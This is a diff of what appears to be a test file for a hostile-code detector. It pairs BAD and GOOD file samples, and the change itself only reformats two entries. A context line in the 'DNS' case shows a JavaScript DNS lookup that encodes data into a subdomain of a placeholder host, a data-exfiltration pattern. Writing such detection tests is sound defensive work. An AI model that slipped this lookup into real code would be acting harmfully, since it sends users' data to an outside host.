@@ -79,8 +79,14 @@ def push_to(host: str, added: str) -> str:
 
 CASES = {
     "metaclass": (file("a.py", metaclass(BAD)), file("a.py", metaclass(GOOD))),
-    "values": (file("a.py", entries(BAD, "values", "step")), file("a.py", entries(GOOD, "values", "step"))),
-    "items": (file("a.py", entries(BAD, "items", "_, step")), file("a.py", entries(GOOD, "items", "_, step"))),
+    "values": (
+        file("a.py", entries(BAD, "values", "step")),
+        file("a.py", entries(GOOD, "values", "step")),
+    ),
+    "items": (
+        file("a.py", entries(BAD, "items", "_, step")),
+        file("a.py", entries(GOOD, "items", "_, step")),
+    ),
     "property": (file("a.ts", property_of(BAD)), file("a.ts", property_of(GOOD))),
     "DNS": (
         file("a.js", lookup(f"dns.resolve4(`${{t}}.x.{HOST}`, () => {{}});")),
